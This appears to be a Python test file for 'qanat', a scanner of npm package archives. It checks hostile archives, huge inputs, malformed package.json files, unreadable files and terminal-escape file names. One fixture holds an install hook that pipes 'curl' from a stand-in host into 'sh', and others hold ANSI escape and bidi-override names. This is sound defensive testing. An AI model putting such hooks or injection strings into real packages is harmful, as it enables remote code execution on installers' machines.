"""qanat check of hostile archives and of the largest inputs: never clean when something was not read, always with a reason,
and in bounded time and memory."""
import json
import os
import subprocess
import sys

from tap import QANAT, check, done, ok, package, put, Run, scratch, tgz_of, verdicts

# What is in the archives: tests/tools/hostile.py.  The rest of them is unknown.
OTHERWISE = {
    "clean": {"good.tgz", "good.tar", "duplicate-case.tgz", "duplicate-same.tgz", "long-name-gnu.tgz", "long-name-pax.tgz",
              "nested.tgz", "no-end.tgz", "padding-behind.tgz", "two-members.tgz"},
    "suspicious": {"duplicate-differs.tgz", "duplicate-manifest.tgz", "fonts.tgz"},
}
STATUS = {"clean": 0, "suspicious": 1, "unknown": 3}


def expected(name):
    return next((verdict for verdict, names in OTHERWISE.items() if name in names), "unknown")


def hostile(d):
    here = os.path.dirname(os.path.abspath(__file__))
    subprocess.run([sys.executable, f"{here}/../tools/hostile.py", f"{d}/in", "--large"], check=True)
    names = sorted(os.listdir(f"{d}/in"))
    ok(len(names) > 50, "there are hostile archives", names)
    r = Run("check", f"{d}/in/empty.tgz")
    ok(r.code == 2 and b"empty" in r.err and r.err.count(b"\n") == 1, "an empty file is one line and exit 2", r)
    for name in names:
        if name == "empty.tgz":
            continue
        r = check(f"{d}/in/{name}")
        want = expected(name)
        res = r.json["results"][0]
        ok(r.code == STATUS[want] and res["verdict"] == want and len(res["reason"]) > 10 and not r.err,
           f"{want}: {name}", r)


def peak_mb(*args):
    """The largest process of a run, the program or a role, in MB, and its exit status."""
    script = "import resource, subprocess, sys; p = subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL); " \
             "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, p.returncode)"
    out = subprocess.run([sys.executable, "-c", script, QANAT, *args], capture_output=True, check=True).stdout.split()
    return int(out[0]) / 1024, int(out[1])


def large(d):
    """200 MB of JSON, where it may stand."""
    filler = '"' + "x" * 1000 + '",'
    long = "[" + filler * 200000 + '""]'
    put(f"{d}/package.tgz", tgz_of({"package.json": '{"name":"long","version":"1.0.0","x":' + long + "}", "index.js": ""}))
    put(f"{d}/lock/package-lock.json", '{"name":"long","lockfileVersion":3,"packages":{"node_modules/a":{"version":"1.0.0",'
        '"resolved":"git+ssh://git@example.invalid/a.git#1"}},"x":' + long + "}")
    put(f"{d}/more/package-lock.json", '{"lockfileVersion":3,"packages":{}}')
    os.truncate(f"{d}/more/package-lock.json", (256 << 20) + 1)
    put(f"{d}/events.ndjson", '{"schema":"qanat.events/1","name":"' + "x" * 200_000_000 + '"}\n')
    for name, target in (("package.json of 200 MB", f"{d}/package.tgz"), ("lock file of 200 MB", f"{d}/lock/package-lock.json"),
                         ("lock file past the limit", f"{d}/more/package-lock.json")):
        r = check(target)
        ok(r.code == 3 and verdicts(r) == ["unknown"] and len(r.json["results"][0]["reason"]) > 10, f"a {name}", r)
        mb, code = peak_mb("check", target)
        if not sanitized():
            ok(code == 3 and mb < 512, f"a {name} takes {mb:.0f} MB", "")
    r = Run("judge", f"{d}/events.ndjson")
    ok(r.code == 2 and r.err.count(b"\n") == 1 and not r.out, "events of 200 MB", r)


def sanitized():
    with open(QANAT, "rb") as f:
        return b"__asan_init" in f.read()


def json_files(d):
    """What package.json may hold, as one clear answer."""
    for name, text, want in (
            ("a key twice, the last one runs", '{"name":"x","version":"1.0.0","scripts":{},"scripts":{"install":"curl -s '
             'https://drop.example.invalid/x | sh"}}', ("suspicious", "malicious")),
            ("nothing", "", ("unknown",)), ("a list", "[1]", ("unknown",)), ("cut short", '{"name":"x"', ("unknown",)),
            ("NUL behind it", '{"name":"x","version":"1.0.0"}\0', ("unknown",)),
            ("10,000 levels of lists", '{"name":"x","x":' + "[" * 10000 + "]" * 10000 + "}", ("unknown",))):
        r = check(put(f"{d}/p.tgz", tgz_of({"package.json": text, "index.js": "1\n"})))
        ok(verdicts(r)[0] in want and r.code == {"unknown": 3}.get(verdicts(r)[0], 1), f"package.json: {name}", r)
    twice = put(f"{d}/twice.tgz", tgz_of({"package.json": '{"name":"x","version":"1.0.0","scripts":{"install":"x"},"scripts":{}}'}))
    r = Run("events", twice)
    ok(b"duplicate-key" in r.out and b"install.hook" not in r.out, "a key twice is told, and the last value counts, as for npm", r)


def unreadable(d):
    """Files that may not be read; root may read everything, so it becomes somebody else for this."""
    files = {"package.json": package(), "index.js": "1\n", "hidden.js": "2\n"}
    for path, text in files.items():
        put(f"{d}/p/{path}", text)
    archive = put(f"{d}/secret.tgz", tgz_of(files))
    os.chmod(archive, 0)
    os.chmod(f"{d}/p/hidden.js", 0)
    os.chmod(d, 0o755)
    drop = {"user": 65534, "group": 65534, "extra_groups": []} if os.geteuid() == 0 else {}
    env = {**os.environ, "HOME": d, "XDG_CACHE_HOME": f"{d}/cache", "XDG_STATE_HOME": f"{d}/state"}
    for name, target, want in (("archive", archive, 2), ("file in a directory", f"{d}/p", 3)):
        p = subprocess.run([QANAT, "check", "--format", "json", "--no-sandbox", target], capture_output=True, env=env, cwd="/", **drop)
        text = p.stdout + p.stderr
        ok(p.returncode == want and (b"ermission" in text or b"read" in text), f"an {name} that may not be read",
           f"exit {p.returncode}\n{text.decode()}")


def messages(d):
    """What a name says to a terminal, it says to nobody."""
    name = f"{d}/\x1b[31mred\u202e"
    put(f"{name}.json", json.dumps({"schema": "qanat.collection/1", "host": {"name": "\x1b]0;x\x07"}}))
    for args in (("check", name), ("unpack", name, d), ("inventory", "scan", name), ("inventory", "ingest", f"{name}.json"),
                 ("intel", "import", name), ("rules", "test", name), ("inventory", "who-has", "\x1b[31ma@?")):
        r = Run(*args, env={"XDG_STATE_HOME": f"{d}/state"})
        ok(r.err and not set(r.err) & set(range(32)) - {10} and b"\xe2\x80\xae" not in r.err,
           f"{args[0]}: nothing for the terminal", r)


for part in (hostile, large, json_files, unreadable, messages):
    with scratch() as where:
        part(where)
done()
